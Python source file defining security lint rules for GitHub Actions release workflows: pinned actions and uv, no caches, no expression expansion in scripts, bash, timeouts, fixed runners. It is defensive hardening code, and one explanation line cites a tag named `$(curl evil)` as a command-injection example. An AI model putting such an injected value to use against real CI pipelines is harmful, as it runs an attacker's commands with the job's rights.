"""Rules for how jobs run: pinned, without caches and shells that hide errors, on known runners, in time."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

from copier_pypi_release.checks.rules import RIGHTS, RUNNER, WATCH, both, release_jobs, rendered, rule
from copier_pypi_release.workflow_files import PINNED, Workflow

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from copier_pypi_release.checks.context import Context

LONGEST = 60  # minutes
# Values that somebody else can choose: a tag, a branch, a title, what a start by hand is told.
CHOSEN = re.compile(r"\$\{\{[^}]*\b(?:github\.(?:event\.|head_ref|ref\b|ref_name|actor)|inputs\.)")


@rule(
    "pinned-actions",
    "Pinned actions",
    why="A tag of an action can be moved to other code, which then runs with the rights of the job. No"
    " release stops for it; once all are pinned, `setup` lets GitHub demand it.",
    fix="pin each, with its version in a comment: `git ls-remote https://github.com/OWNER/NAME TAG`",
    good="each to a full commit, with its version",
)
def pinned_actions(workflow: Workflow, context: Context) -> Iterator[str]:
    """To a full commit, in every workflow; in the one that releases with the version in a comment."""
    for read in context.workflows:
        if read is not workflow and read not in context.releases:
            yield from (f"{read.file}: {use} has no commit" for use in read.uses() if not PINNED.search(use))
    for place, read in rendered(workflow, context):
        told = {found[1] for found in re.finditer(r"uses:\s*[\"']?(\S+?)[\"']?\s+#\s*v?\d\S*", read.text)}
        for use in dict.fromkeys(read.uses()):
            if read is workflow and not PINNED.search(use):
                yield f"{use} has no commit"
            elif PINNED.search(use) and use not in told:
                yield f"{place}{use.partition('@')[0]} has no version in a comment"


@rule(
    "pinned-uv",
    "Pinned uv",
    why="The newest uv of the day of a release is one that nobody has tried it with; one that setup-uv has no"
    " checksum of is not verified.",
    fix="`version:` at every astral-sh/setup-uv, in each job that runs a release script, with its `checksum:`"
    f" in each job on {RUNNER}: `uv run .github/release/tool.py pins` moves both",
    good="the same version everywhere, with its checksum",
    adopted=True,
)
def pinned_uv(workflow: Workflow, context: Context) -> Iterator[str]:
    """Every job that runs a script has uv, in one version, with its checksum where the system is known."""
    versions, checksums = set(), set()
    for place, read in rendered(workflow, context):
        has = {job: step.get("with") or {} for job, step in read.using("astral-sh/setup-uv")}
        for job, inputs in has.items():
            version, checksum = str(inputs.get("version", "")), str(inputs.get("checksum", ""))
            versions.add(version)
            checksums |= {checksum} - {""}
            if not re.fullmatch(r"\d+\.\d+\.\d+", version):
                yield f"{place}{job} installs any uv"
            if read.jobs[job].get("runs-on") == RUNNER and not re.fullmatch(r"[0-9a-f]{64}", checksum):
                yield f"{place}{job} has no checksum of uv"
        yield from (
            f"{place}{job} does not install uv" for job in read.jobs if read.scripts(job) and job not in has
        )
        for found in re.finditer(r"checksum:\s*[\"']?[0-9a-f]{64}[\"']?\s+#\s*v(\S+)", read.text):
            if found[1] not in versions:
                yield f"{place}a checksum is of uv {found[1]}"
    if len(versions - {""}) > 1:
        yield f"uv is installed in the versions {', '.join(sorted(versions - {''}))}"
    if len(checksums) > 1:
        yield "uv is installed with more than one checksum"


@rule(
    "no-cache",
    "No cache in a release",
    why="What a pull request can write to a cache would be run, or published, by the release.",
    fix="`enable-cache: false` at setup-uv, no `cache:` at setup-python, no actions/cache",
    good="nothing that leads to a release reads one",
)
def no_cache(workflow: Workflow, context: Context) -> Iterator[str]:
    """What an outsider can write to a cache never reaches a release; CI's build is like a release's."""
    for place, read in rendered(workflow, context):
        jobs = (
            release_jobs(read) if read is workflow else ["build"] if read.file != WATCH else list(read.jobs)
        )
        for job in jobs:
            for step in read.steps(job):
                name, given = str(step.get("uses", "")).partition("@")[0], step.get("with") or {}
                if name == "astral-sh/setup-uv" and given.get("enable-cache") is not False:
                    yield f"{place}{job} lets uv use a cache"
                if name.startswith("actions/cache") or (
                    name.startswith("actions/setup-") and given.get("cache")
                ):
                    yield f"{place}{job} reads a cache"


@rule(
    "no-expansion",
    "Nobody's text becomes a script",
    why="An expression is pasted into the script, and a tag can be named `$(curl evil)`.",
    fix="hand the value on by `env:`, and use the variable, quoted",
    good="values travel by environment",
)
def no_expansion(workflow: Workflow, context: Context) -> Iterator[str]:
    """No value that somebody else can choose is expanded in a script; in a rendered one none at all."""
    for place, read in rendered(workflow, context):
        pattern = re.compile(r"\$\{\{") if context.settings else CHOSEN
        for job in release_jobs(read) if read is workflow else list(read.jobs):
            for step in read.steps(job):
                if pattern.search(str(step.get("run", ""))):
                    yield f"{place}{job} expands an expression in a script"
            if "${{" in str(read.jobs[job].get("defaults", "")):
                yield f"{place}{job} computes its shell or folder"


@rule(
    "shell",
    "One shell, which stops at errors",
    why="Without it, Windows runs PowerShell, and a failure before a pipe is lost.",
    fix="`defaults: run: shell: bash`, and no other `shell:`",
    good="bash everywhere",
    adopted=True,
)
def shell(workflow: Workflow, context: Context) -> Iterator[str]:
    """Bash is named, which GitHub then runs with pipefail."""
    for place, read in both(workflow, context):
        if ((read.data.get("defaults") or {}).get("run") or {}).get("shell") != "bash":
            yield f"{place}scripts run in any shell"
        for job in read.jobs:
            own = ((read.jobs[job].get("defaults") or {}).get("run") or {}).get("shell", "bash")
            if any(step.get("shell", own) != "bash" for step in read.steps(job) if _ours(step)):
                yield f"{place}{job} runs a release script in another shell"


def _ours(step: Mapping[str, Any]) -> bool:
    return ".github/release/" in str(step.get("run", ""))


@rule(
    "telemetry",
    "gh reports to nobody",
    why="A release talks to the indexes, GitHub, uv's mirror and Sigstore, and to nobody else.",
    fix='`GH_TELEMETRY: "false"` in the `env:` of the workflow',
    good="switched off",
    adopted=True,
)
def telemetry(workflow: Workflow, context: Context) -> Iterator[str]:
    """The command gh is kept from sending telemetry."""
    del context
    if str((workflow.data.get("env") or {}).get("GH_TELEMETRY")) != "false":
        yield "gh may send telemetry"


@rule(
    "timeouts",
    "Every job ends",
    why="A job that hangs blocks the release, and the ones that wait for it, for six hours.",
    fix=f"`timeout-minutes:` of at most {LONGEST} on each job",
    good=f"within {LONGEST} minutes",
)
def timeouts(workflow: Workflow, context: Context) -> Iterator[str]:
    """Each job has a timeout of at most an hour."""
    for place, read in rendered(workflow, context):
        for job in release_jobs(read) if read is workflow else list(read.jobs):
            minutes = read.jobs[job].get("timeout-minutes")
            if "uses" not in read.jobs[job] and not (isinstance(minutes, int) and 0 < minutes <= LONGEST):
                yield f"{place}{job} may run for {f'{minutes} minutes' if minutes else 'six hours'}"


@rule(
    "runners",
    "Fixed runner images",
    why="`-latest` becomes another system one day, and that day can be the day of a release.",
    fix=f"`runs-on: {RUNNER}`, or a matrix of systems with numbers",
    good=RUNNER,
    adopted=True,
)
def runners(workflow: Workflow, context: Context) -> Iterator[str]:
    """A fixed image for each job of the release."""
    for place, read in rendered(workflow, context):
        for job in read.jobs if read is not workflow else [j for j in RIGHTS if j in read.jobs]:
            matrix = (read.jobs[job].get("strategy") or {}).get("matrix") or {}
            cells = [cell.get("os") for cell in matrix.get("include") or [] if isinstance(cell, dict)]
            named = [read.jobs[job].get("runs-on"), *(matrix.get("os") or []), *filter(None, cells)]
            if "${{ matrix.os }}" in named:
                named.remove("${{ matrix.os }}")
            if any("latest" in str(name) or "${{" in str(name) for name in named):
                yield f"{place}{job} runs on {', '.join(map(str, named))}"
